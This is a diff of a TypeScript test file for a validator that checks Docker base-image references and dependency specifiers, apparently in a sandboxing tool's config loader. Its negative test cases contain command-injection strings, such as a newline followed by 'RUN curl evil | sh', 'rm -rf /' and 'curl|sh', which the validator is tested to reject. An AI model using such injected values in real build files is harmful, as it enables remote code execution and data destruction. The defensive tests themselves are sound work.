@@ -14,21 +14,44 @@ import { errorOf, problemLines, workspace } from './helpers.js';
 describe('base_image: the image-reference grammar', () => {
   it('accepts what docker pull accepts', () => {
     for (const ref of [
-      'debian', 'debian:bookworm-slim', 'library/debian:12', 'ubuntu:24.04', 'ghcr.io/acme/tools:v1.2.3',
-      'localhost:5000/team/img', 'registry.example.com:5000/a/b/c:tag_1', 'my-img__x.y:latest',
-      `debian@sha256:${'a'.repeat(64)}`, `debian:12@sha256:${'0'.repeat(64)}`, 'Registry.Example.COM/x',
-    ]) expect(imageReferenceProblem(ref), ref).toBeUndefined();
+      'debian',
+      'debian:bookworm-slim',
+      'library/debian:12',
+      'ubuntu:24.04',
+      'ghcr.io/acme/tools:v1.2.3',
+      'localhost:5000/team/img',
+      'registry.example.com:5000/a/b/c:tag_1',
+      'my-img__x.y:latest',
+      `debian@sha256:${'a'.repeat(64)}`,
+      `debian:12@sha256:${'0'.repeat(64)}`,
+      'Registry.Example.COM/x',
+    ])
+      expect(imageReferenceProblem(ref), ref).toBeUndefined();
   });
 
   it('refuses line breaks, spaces, upper-case names and other forms', () => {
     for (const ref of [
-      'debian:bookworm-slim\nRUN curl evil | sh', 'debian\n', 'debian:12 AS x', ' debian', 'Debian', 'acme/Tools',
-      'debian:', ':tag', 'debian@sha256:abc', 'a//b', 'debian:-tag', '-debian', 'debian\u202e', 'debian\t',
-      `debian:${'t'.repeat(129)}`, '--platform=linux/amd64 debian',
-    ]) expect(imageReferenceProblem(ref), JSON.stringify(ref)).toBeDefined();
+      'debian:bookworm-slim\nRUN curl evil | sh',
+      'debian\n',
+      'debian:12 AS x',
+      ' debian',
+      'Debian',
+      'acme/Tools',
+      'debian:',
+      ':tag',
+      'debian@sha256:abc',
+      'a//b',
+      'debian:-tag',
+      '-debian',
+      'debian\u202e',
+      'debian\t',
+      `debian:${'t'.repeat(129)}`,
+      '--platform=linux/amd64 debian',
+    ])
+      expect(imageReferenceProblem(ref), JSON.stringify(ref)).toBeDefined();
   });
 
-  it('a line break in moat.yaml\'s base_image is an error at moat.yaml:LINE:COL, before anything is built', async () => {
+  it("a line break in moat.yaml's base_image is an error at moat.yaml:LINE:COL, before anything is built", async () => {
     const dir = await workspace({ 'moat.yaml': 'grants: []\nbase_image: "debian:bookworm-slim\\nRUN touch /pwned"\n' });
     const msg = await errorOf(loadWorkspaceConfig(dir));
     expect(problemLines(msg)).toEqual(['moat.yaml:2:13: base_image: an image reference has no spaces, line breaks or control characters']);
@@ -46,7 +69,7 @@ describe('base_image: the image-reference grammar', () => {
   });
 });
 
-describe('dependencies: each entry against its form\'s grammar', () => {
+describe("dependencies: each entry against its form's grammar", () => {
   it('accepts the registry and dynamic forms', () => {
     for (const d of ['node', 'node@20', 'claude-code', 'sqlite3', 'npm:typescript@5.9', 'npm:@scope/pkg', 'apt:jq=1.6-2.1', 'pip:requests==2.32.3']) {
       expect(dependencyProblem(d), d).toBeUndefined();
@@ -54,7 +77,20 @@ describe('dependencies: each entry against its form\'s grammar', () => {
   });
 
   it('refuses whitespace, line breaks and control characters anywhere', () => {
-    for (const d of ['node@20\nRUN id', 'node 20', ' node', 'node\t', 'node\u0000', 'node@20\r', 'npm:foo@1;rm -rf /', 'apt:jq\n', 'pip:x==1 ', 'node\u2028x', 'curl|sh', 'x:y']) {
+    for (const d of [
+      'node@20\nRUN id',
+      'node 20',
+      ' node',
+      'node\t',
+      'node\u0000',
+      'node@20\r',
+      'npm:foo@1;rm -rf /',
+      'apt:jq\n',
+      'pip:x==1 ',
+      'node\u2028x',
+      'curl|sh',
+      'x:y',
+    ]) {
       expect(dependencyProblem(d), JSON.stringify(d)).toBeDefined();
     }
     expect(() => parseSpec('node@20\nRUN id')).toThrow(/space, line break or control character/);
